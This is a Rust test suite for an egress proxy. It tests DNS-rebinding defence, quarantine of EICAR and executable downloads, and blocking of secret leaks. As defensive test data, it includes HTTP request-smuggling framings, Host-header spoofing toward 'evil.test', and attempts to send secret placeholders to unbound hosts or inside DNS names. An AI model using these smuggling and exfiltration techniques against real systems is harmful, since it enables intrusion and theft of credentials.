    h.dns.script("denied.test", vec![vec![ip("127.0.0.1")]]);
    let (head, _) = h.connect("denied.test:443").await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(head.contains("no rule allows denied.test:443"), "{head}");
    assert_eq!(h.dns.lookups("denied.test"), 0);
    assert!(matches!(
        &h.decisions()[0],
        EgressEvent::Decision { allowed: false, .. }
    ));
}

#[tokio::test]
async fn dns_rebinding_gets_the_checked_address_only() {
    let port = origin(None).await;
    let h = harness(
        &[
            &format!("rebind.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &[],
        "",
        1 << 20,
    )
    .await;
    // First answer allowed (loopback named explicitly); any later answer
    // points elsewhere. The proxy asks once and connects to what it checked.
    h.dns.script(
        "rebind.test",
        vec![vec![ip("127.0.0.1")], vec![ip("127.0.0.2")]],
    );
    let (status, _, body) = h.get(&format!("http://rebind.test:{port}/")).await;
    assert_eq!(status, StatusCode::OK, "{body:?}");
    assert_eq!(h.dns.lookups("rebind.test"), 1);
    let decision = &h.decisions()[0];
    assert!(
        matches!(decision, EgressEvent::Decision { address: Some(a), .. } if *a == SocketAddr::new(ip("127.0.0.1"), port))
    );
    // The reverse order: refused at once, whatever a second lookup would say.
    h.dns.script(
        "rebind.test",
        vec![vec![ip("127.0.0.2")], vec![ip("127.0.0.1")]],
    );
    let (status, headers, _) = h.get(&format!("http://rebind.test:{port}/")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(
        headers["x-cubicle-egress-reason"]
            .to_str()
            .unwrap()
            .contains("127.0.0.2 is loopback")
    );
}

#[tokio::test]
async fn a_download_goes_to_quarantine_not_the_client() {
    let origin_pki = pki(&["origin.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1000,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    let authority = format!("origin.test:{port}");
    let (status, headers, body) = h
        .https_get(
            &authority,
            "origin.test",
            "/eicar.com",
            h.workspace_tls.clone(),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::FORBIDDEN);
    let page = String::from_utf8_lossy(&body);
    assert!(page.contains("held in quarantine"), "{page}");
    assert!(
        !page.contains("EICAR-STANDARD"),
        "the file itself must not pass"
    );
    let id = headers["x-cubicle-download"].to_str().unwrap().to_owned();
    let record = quarantine::records::get(h.quarantine.store(), &id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(record.name, "eicar.com");
    assert_eq!(record.url, format!("https://origin.test:{port}/eicar.com"));
    assert_eq!(record.hits[0].rule, "eicar_test_file");
    let held = h
        .wait_for(|e| matches!(e, EgressEvent::DownloadHeld { .. }))
        .await;
    assert!(matches!(held, EgressEvent::DownloadHeld { hits, .. } if hits == ["eicar_test_file"]));
    // Over the cap: refused, nothing kept.
    let (status, _, _) = h
        .https_get(
            &authority,
            "origin.test",
            "/big.bin",
            h.workspace_tls.clone(),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    h.wait_for(
        |e| matches!(e, EgressEvent::DownloadRefused { reason, .. } if reason.contains("cap")),
    )
    .await;
    let stored: Vec<_> = std::fs::read_dir(h.dir.path().join("quarantine"))
        .unwrap()
        .flatten()
        .filter(|e| e.path().is_file())
        .collect();
    assert_eq!(stored.len(), 1, "only the EICAR file is kept");
}

#[tokio::test]
async fn a_download_in_flight_is_cleaned_up_when_the_workspace_goes() {
    let port = origin(None).await;
    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 30).await;
    let proxy = h.proxy.clone();
    let url = format!("http://127.0.0.1:{port}/slow.bin");
    let download = tokio::spawn(async move {
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new({
            let (ours, theirs) = UnixStream::pair().unwrap();
            proxy.serve(theirs);
            ours
        }))
        .await
        .unwrap();
        tokio::spawn(conn);
        sender
            .send_request(Request::get(url).body(Full::new(Bytes::new())).unwrap())
            .await
    });
    let tmp = h.dir.path().join("quarantine/tmp");
    for _ in 0..100 {
        if std::fs::read_dir(&tmp).unwrap().count() > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(
        std::fs::read_dir(&tmp).unwrap().count(),
        1,
        "a partial file while it runs"
    );
    tokio::time::timeout(Duration::from_secs(5), h.proxy.shutdown())
        .await
        .unwrap();
    assert_eq!(
        std::fs::read_dir(&tmp).unwrap().count(),
        0,
        "nothing partial kept"
    );
    assert!(
        download.await.unwrap().is_err(),
        "the client's connection ended"
    );
}

#[tokio::test]
async fn malformed_huge_and_slow_clients_are_closed_and_others_still_served() {
    let port = origin(None).await;
    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
    let read_all = |mut s: UnixStream| async move {
        let mut out = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await;
        String::from_utf8_lossy(&out).into_owned()
    };
    let mut garbage = h.client();
    garbage
        .write_all(b"\x16\x03\x01 not http at all\r\n\r\n")
        .await
        .unwrap();
    let answer = read_all(garbage).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 400"),
        "{answer}"
    );
    let mut origin_form = h.client();
    origin_form
        .write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let answer = read_all(origin_form).await;
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(answer.contains("forward proxy"), "{answer}");
    let mut huge = h.client();
    let big = format!(
        "GET http://127.0.0.1:{port}/ HTTP/1.1\r\nX-Big: {}\r\n\r\n",
        "a".repeat(200_000)
    );
    let _ = huge.write_all(big.as_bytes()).await;
    let answer = read_all(huge).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 431"),
        "{answer:.80}"
    );
    let mut slow = h.client();
    slow.write_all(b"GET http://127.0.0.1/ HTTP/1.1\r\n")
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let _ = read_all(slow).await;
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "a slow client is cut off"
    );
    let (status, _, _) = h.get(&format!("http://127.0.0.1:{port}/")).await;
    assert_eq!(status, StatusCode::OK, "the proxy keeps serving others");
}

/// Sends raw bytes into the proxy; what came back (until it closes or 5 s).
async fn raw(h: &Harness, request: &[u8]) -> String {
    let mut stream = h.client();
    stream.write_all(request).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test]
async fn an_executable_is_held_whatever_its_headers_and_status_say() {
    let origin_pki = pki(&["origin.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let plain = origin(None).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
            &format!("127.0.0.1/32:{plain}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    let authority = format!("origin.test:{port}");
    let variants = [
        "text-plain",
        "image-png",
        "text-html",
        "no-type",
        "two-types",
        "unknown-disposition",
        "inline-disposition",
        "gzip-encoded",
        "unknown-encoding",
        "404",
        "500",
    ];
    for variant in variants {
        let path = format!("/exe/{variant}");
        for intercepted in [true, false] {
            let (status, headers, body) = if intercepted {
                h.https_get(&authority, "origin.test", &path, h.workspace_tls.clone())
                    .await
                    .unwrap()
            } else {
                h.get(&format!("http://127.0.0.1:{plain}{path}")).await
            };
            assert_eq!(status, StatusCode::FORBIDDEN, "{variant}: {body:?}");
            assert!(
                !body.windows(4).any(|w| w == b"\x7fELF"),
                "{variant}: not a byte of it reaches the client"
            );
            let id = headers["x-cubicle-download"].to_str().unwrap().to_owned();
            let record = quarantine::records::get(h.quarantine.store(), &id)
                .await
                .unwrap()
                .unwrap();
            assert_eq!(
                record.sniffed_type.as_deref(),
                Some("application/x-executable"),
                "{variant}: kept as the browser would save it (decoded)"
            );
            assert!(
                record.hits.iter().any(|hit| hit.rule == "elf_executable"),
                "{variant}: {:?}",
                record.hits
            );
            let page = String::from_utf8_lossy(&body);
            let why = if variant == "unknown-disposition" {
                "`x-whatever` makes a browser save it"
            } else {
                "the bytes are an executable (ELF)"
            };
            assert!(page.contains(why), "{variant}: {page}");
        }
    }
    // A gzip'd tar with an executable inside, served as an image: held,
    // with the executable named, so no policy releases it by itself.
    let (status, headers, _) = h.get(&format!("http://127.0.0.1:{plain}/exe/tgz")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let id = headers["x-cubicle-download"].to_str().unwrap().to_owned();
    let record = quarantine::records::get(h.quarantine.store(), &id)
        .await
        .unwrap()
        .unwrap();
    let inside = record
        .hits
        .iter()
        .find(|hit| hit.rule == quarantine::archive::CONTAINS_EXECUTABLE)
        .unwrap_or_else(|| panic!("{:?}", record.hits));
    assert!(
        inside
            .description
            .as_deref()
            .unwrap()
            .contains("pkg/bin/tool"),
        "{inside:?}"
    );
    // Every one is an egress.request event with the download's id.
    let held = h
        .events
        .all()
        .into_iter()
        .filter(|e| {
            matches!(
                e,
                EgressEvent::Request {
                    download: Some(_),
                    ..
                }
            )
        })
        .count();
    assert_eq!(held, variants.len() * 2 + 1);
}

#[tokio::test]
async fn pages_scripts_and_streams_pass_quickly_and_whole() {
    let port = origin(None).await;
    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
    let url = |path: &str| format!("http://127.0.0.1:{port}{path}");
    let (status, _, body) = h.get(&url("/page.html")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.starts_with(b"<!doctype html>"));
    let (status, headers, body) = h.get(&url("/app.js")).await;
    assert_eq!(status, StatusCode::OK, "page script passes");
    assert_eq!(headers["content-encoding"], "gzip", "as the server sent it");
    assert_eq!(
        body.as_ref(),
        gzip(b"export function f() { return 1 }").as_slice()
    );
    let (status, _, body) = h.get(&url("/big-page.txt")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        body.len(),
        48 * 64 * 1024,
        "larger than the head: all of it"
    );
    // Text named like a script is held by its name.
    let (status, headers, _) = h.get(&url("/install.sh")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(headers.contains_key("x-cubicle-download"));
    // An event stream: its first event arrives although the stream stays open.
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(h.client()))
        .await
        .unwrap();
    tokio::spawn(conn);
    let response = sender
        .send_request(
            Request::get(url("/events"))
                .body(Full::new(Bytes::new()))
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let mut body = response.into_body();
    let first = tokio::time::timeout(Duration::from_secs(10), body.frame())
        .await
        .expect("the first event, not a wait for the stream's end")
        .unwrap()
        .unwrap();
    assert_eq!(first.into_data().unwrap().as_ref(), b"data: first\n\n");
    // A body that breaks off before it can be judged: nothing of it, and
    // still an egress.request event (it reached the origin).
    let (status, _, body) = h.get(&url("/broken")).await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert!(!body.windows(3).any(|w| w == b"\x7fEL"));
    h.wait_for(
        |e| matches!(e, EgressEvent::Request { status: 502, path, .. } if path == "/broken"),
    )
    .await;
}

#[tokio::test]
async fn the_origin_sees_exactly_the_authority_that_was_decided() {
    let origin_pki = pki(&["origin.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let plain = origin(None).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
            &format!("127.0.0.1/32:{plain}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    // Plain absolute-URI: another Host is refused before any connection.
    let answer = raw(
        &h,
        format!("GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            .as_bytes(),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 421"), "{answer}");
    let answer = raw(
        &h,
        format!("GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n")
            .as_bytes(),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 421"), "another port: {answer}");
    let answer = raw(
        &h,
        format!(
            "GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: 127.0.0.1:{plain}\r\nHost: evil.test\r\n\r\n"
        )
        .as_bytes(),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 400"), "two Hosts: {answer}");
    assert!(seen("/host-a").is_empty(), "{:?}", seen("/host-a"));
    // The same Host, differently spelled, passes; the origin gets the
    // decided authority exactly.
    let answer = raw(
        &h,
        format!("GET http://127.0.0.1:{plain}/host-b HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n").as_bytes(),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(seen("/host-b"), [format!("127.0.0.1:{plain}")]);
    // Inside an intercepted tunnel: another Host, an absolute-form target
    // naming another host, and two Hosts are refused.
    let authority = format!("origin.test:{port}");
    for (path, extra, target, expected) in [
        (
            "/host-c",
            "Host: evil.test\r\n".to_owned(),
            "/host-c".to_owned(),
            "421",
        ),
        (
            "/host-d",
            format!("Host: {authority}\r\n"),
            "https://evil.test/host-d".to_owned(),
            "421",
        ),
        (
            "/host-e",
            format!("Host: {authority}\r\nHost: evil.test\r\n"),
            "/host-e".to_owned(),
            "400",
        ),
        (
            "/host-f",
            format!("Host: origin.test:{}\r\n", port.wrapping_add(1)),
            "/host-f".to_owned(),
            "421",
        ),
    ] {
        let (head, stream) = h.connect(&authority).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        let mut tls = tokio_rustls::TlsConnector::from(h.workspace_tls.clone())
            .connect(ServerName::try_from("origin.test").unwrap(), stream)
            .await
            .unwrap();
        tls.write_all(
            format!("GET {target} HTTP/1.1\r\n{extra}Connection: close\r\n\r\n").as_bytes(),
        )
        .await
        .unwrap();
        let mut out = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut out)).await;
        let answer = String::from_utf8_lossy(&out);
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {expected}")),
            "{path}: {answer}"
        );
        assert!(seen(path).is_empty(), "{path} reached the origin");
    }
    let (status, _, _) = h
        .https_get(
            &authority,
            "origin.test",
            "/host-g",
            h.workspace_tls.clone(),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::OK);
    assert_eq!(seen("/host-g"), std::slice::from_ref(&authority));
}

#[tokio::test]
async fn ambiguous_framing_is_refused_before_any_connection() {
    let port = origin(None).await;
    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
    let target = |path: &str| format!("http://127.0.0.1:{port}{path}");
    let cases = [
        (
            "/te-cl",
            "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
            "0\r\n\r\n",
        ),
        (
            "/cl-te",
            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            "0\r\n\r\n",
        ),
        ("/cl-cl", "Content-Length: 1\r\nContent-Length: 1\r\n", "x"),
        (
            "/te-gzip",
            "Transfer-Encoding: gzip, chunked\r\n",
            "0\r\n\r\n",
        ),
        (
            "/te-te",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
            "0\r\n\r\n",
        ),
        (
            "/obs-fold",
            "X-Folded: a\r\n b\r\nContent-Length: 0\r\n",
            "",
        ),
    ];
    for (path, headers, body) in cases {
        let request = format!(
            "POST {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{headers}\r\n{body}",
            target(path)
        );
        let answer = raw(&h, request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{path}: {answer}");
        assert!(seen(path).is_empty(), "{path} reached the origin");
    }
    assert!(
        h.decisions().is_empty(),
        "nothing was even decided: {:?}",
        h.events.all()
    );
    // The control: the same request, framed once, goes through.
    let request = format!(
        "POST {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx",
        target("/framed")
    );
    let answer = raw(&h, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(seen("/framed").len(), 1);
    h.wait_for(|e| matches!(e, EgressEvent::Request { path, .. } if path == "/framed"))
        .await;
}

#[tokio::test]
async fn a_secret_reaches_its_host_only_and_a_placeholder_sent_elsewhere_is_refused() {
    use super::secrets::{Bound, placeholder};
    let origin_pki = pki(&["origin.test", "other.test", "127.0.0.1"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let plain = origin(None).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("other.test:{port}"),
            &format!("127.0.0.1/32:{port},{plain}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    h.dns.script("other.test", vec![vec![ip("127.0.0.1")]]);
    let held = placeholder();
    h.proxy.secrets().set(vec![Bound {
        id: "sec-test".into(),
        placeholder: held.clone(),
        value: "the-real-value-42".into(),
        hosts: vec!["origin.test".into()],
        body: false,
    }]);
    let bearer = format!("Bearer {held}");

    // To its host, over intercepted TLS: the value arrives, not the
    // placeholder, and the request's event names the secret.
    let (status, _, body) = h
        .https_get_with(
            &format!("origin.test:{port}"),
            "origin.test",
            "/headers",
            h.workspace_tls.clone(),
            &[("authorization", &bearer)],
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::OK);
    let echoed = String::from_utf8_lossy(&body);
    assert!(
        echoed.contains("authorization: Bearer the-real-value-42"),
        "{echoed}"
    );
    assert!(!echoed.contains(&held), "{echoed}");
    let request = h
        .wait_for(|e| matches!(e, EgressEvent::Request { path, .. } if path == "/headers"))
        .await;
    assert!(
        matches!(&request, EgressEvent::Request { secrets, swaps, .. }
            if secrets == &["sec-test"] && swaps.len() == 1 && swaps[0].place == "header authorization"),
        "{request:?}"
    );

    // To another host (same address, another name), and in plain HTTP:
    // refused before anything is sent, and said.
    let (status, _, body) = h
        .https_get_with(
            &format!("other.test:{port}"),
            "other.test",
            "/elsewhere-tls",
            h.workspace_tls.clone(),
            &[("x-api-key", &held)],
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(String::from_utf8_lossy(&body).contains("origin.test only"));
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(h.client()))
        .await
        .unwrap();
    tokio::spawn(conn);
    let req = Request::get(format!("http://127.0.0.1:{plain}/elsewhere-plain?k={held}"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    assert_eq!(
        sender.send_request(req).await.unwrap().status(),
        StatusCode::FORBIDDEN
    );
    for path in ["/elsewhere-tls", "/elsewhere-plain"] {
        assert!(seen(path).is_empty(), "{path} reached the origin");
    }
    // In a host name (a lookup would carry it out): refused, never looked up.
    let (head, _) = h
        .connect(&format!("{}.origin.test:{port}", held.to_uppercase()))
        .await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    let blocked: Vec<EgressEvent> = h
        .events
        .all()
        .into_iter()
        .filter(|e| matches!(e, EgressEvent::SecretBlocked { .. }))
        .collect();
    assert_eq!(blocked.len(), 3, "{blocked:?}");
    assert!(
        matches!(&blocked[2], EgressEvent::SecretBlocked { secret: Some(s), place, .. }
            if s == "sec-test" && place == "host"),
        "{blocked:?}"
    );
    assert!(
        matches!(&blocked[0], EgressEvent::SecretBlocked { host, secret: Some(s), place, .. }
            if host == "other.test" && s == "sec-test" && place == "header x-api-key"),
        "{blocked:?}"
    );
    // The value is in no event.
    let all = format!("{:?}", h.events.all());
    assert!(!all.contains("the-real-value-42"));
}

#[tokio::test]
async fn a_body_secret_goes_into_bodies_to_its_host_and_a_header_secret_never_does() {
    use super::secrets::{Bound, MAX_BODY, Swap, placeholder};
    let origin_pki = pki(&["origin.test", "other.test", "plain.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("other.test:{port}"),
            &format!("plain.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1 << 20,
    )
    .await;
    for name in ["origin.test", "other.test", "plain.test"] {
        h.dns.script(name, vec![vec![ip("127.0.0.1")]]);
    }
    let (in_body, header_only, elsewhere) = (placeholder(), placeholder(), placeholder());
    let secret = |id: &str, placeholder: &str, value: &str, host: &str, body: bool| Bound {
        id: id.into(),
        placeholder: placeholder.into(),
        value: value.into(),
        hosts: vec![host.into()],
        body,
    };
    h.proxy.secrets().set(vec![
        secret("sec-body", &in_body, "body-value-77", "origin.test", true),
        secret(
            "sec-head",
            &header_only,
            "head-value-78",
            "origin.test",
            false,
        ),
        secret(
            "sec-other",
            &elsewhere,
            "other-value-79",
            "other.test",
            true,
        ),
        secret(
            "sec-plain",
            &placeholder(),
            "plain-value-80",
            "plain.test",
            false,
        ),
    ]);
    let post = |host: &str, body: Body, headers: &[(&str, &str)]| {
        let mut req = Request::post("/body").header("host", format!("{host}:{port}"));
        for (name, value) in headers {
            req = req.header(*name, *value);
        }
        req.body(body).unwrap()
    };
    let send = |host: &'static str, req: Request<Body>| {
        let h = &h;
        let tls = h.workspace_tls.clone();
        async move {
            let (status, _, body) = h
                .https_send(&format!("{host}:{port}"), host, tls, req)
                .await
                .unwrap();
            (status, String::from_utf8_lossy(&body).into_owned())
        }
    };
    let json = format!(r#"{{"key":"{in_body}","also":"{header_only}"}}"#);
    let want = format!(r#"{{"key":"body-value-77","also":"{header_only}"}}"#);

    // With a Content-Length: the body secret's value goes in, the header
    // secret's placeholder stays as it is, and the length is the new one.
    let bearer = format!("Bearer {in_body}");
    let req = post(
        "origin.test",
        owned(json.clone().into_bytes()),
        &[
            ("authorization", &bearer),
            ("content-type", "application/json"),
        ],
    );
    let (status, echoed) = send("origin.test", req).await;
    assert_eq!(status, StatusCode::OK, "{echoed}");
    assert_eq!(
        echoed,
        format!(
            "content-length: {}\ntransfer-encoding: -\n\n{want}",
            want.len()
        )
    );
    let request = h
        .wait_for(|e| matches!(e, EgressEvent::Request { path, method, .. } if path == "/body" && method == "POST"))
        .await;
    let place = |secret: &str, place: &str| Swap {
        secret: secret.into(),
        place: place.into(),
    };
    assert!(
        matches!(&request, EgressEvent::Request { secrets, swaps, .. }
            if secrets == &["sec-body"]
                && swaps == &[place("sec-body", "header authorization"), place("sec-body", "body")]),
        "{request:?}"
    );

    // Chunked, the placeholder split across chunks: read whole, sent with
    // a Content-Length.
    let (first, second) = json.split_at(12);
    let chunks = futures_util::stream::iter([
        Ok(Frame::data(Bytes::from(first.to_owned()))),
        Ok(Frame::data(Bytes::from(second.to_owned()))),
    ]);
    let req = post("origin.test", StreamBody::new(chunks).boxed(), &[]);
    let (status, echoed) = send("origin.test", req).await;
    assert_eq!(status, StatusCode::OK, "{echoed}");
    assert_eq!(
        echoed,
        format!(
            "content-length: {}\ntransfer-encoding: -\n\n{want}",
            want.len()
        )
    );

    // Over the cap: sent as it came, unread past the cap, placeholder and all.
    let mut big = json.clone().into_bytes();
    big.resize(MAX_BODY + 1, b' ');
    let chunks = futures_util::stream::iter(
        big.chunks(64 * 1024)
            .map(|c| Ok(Frame::data(Bytes::copy_from_slice(c))))
            .collect::<Vec<_>>(),
    );
    let req = post("origin.test", StreamBody::new(chunks).boxed(), &[]);
    let (status, echoed) = send("origin.test", req).await;
    assert_eq!(status, StatusCode::OK);
    let (framing, came) = echoed.split_once("\n\n").unwrap();
    assert_eq!(framing, "content-length: -\ntransfer-encoding: chunked");
    assert_eq!(came.as_bytes(), big.as_slice(), "not as it was sent");

    // A host with only a header secret: its bodies are not read (chunked
    // stays chunked) and nothing in them is swapped.
    let chunks = futures_util::stream::iter([Ok(Frame::data(Bytes::from(json.clone())))]);
    let req = post("plain.test", StreamBody::new(chunks).boxed(), &[]);
    let (status, echoed) = send("plain.test", req).await;
    assert_eq!(status, StatusCode::OK, "{echoed}");
    assert_eq!(
        echoed,
        format!("content-length: -\ntransfer-encoding: chunked\n\n{json}")
    );

    // A read body toward a host its secrets are not bound to: refused,
    // nothing sent, and said.
    let before = seen("/body").len();
    let req = post(
        "other.test",
        owned(format!("x={elsewhere}&y={in_body}").into_bytes()),
        &[],
    );
    let (status, echoed) = send("other.test", req).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{echoed}");
    assert!(echoed.contains("origin.test only"), "{echoed}");
    assert_eq!(seen("/body").len(), before, "it reached the origin");
    let blocked = h
        .wait_for(|e| matches!(e, EgressEvent::SecretBlocked { .. }))
        .await;
    assert!(
        matches!(&blocked, EgressEvent::SecretBlocked { host, secret: Some(s), place, .. }
            if host == "other.test" && s == "sec-body" && place == "body"),
        "{blocked:?}"
    );

    // No value in any event.
    let all = format!("{:?}", h.events.all());
    for value in ["body-value-77", "head-value-78", "other-value-79"] {
        assert!(!all.contains(value), "{value} is in an event");
    }
}
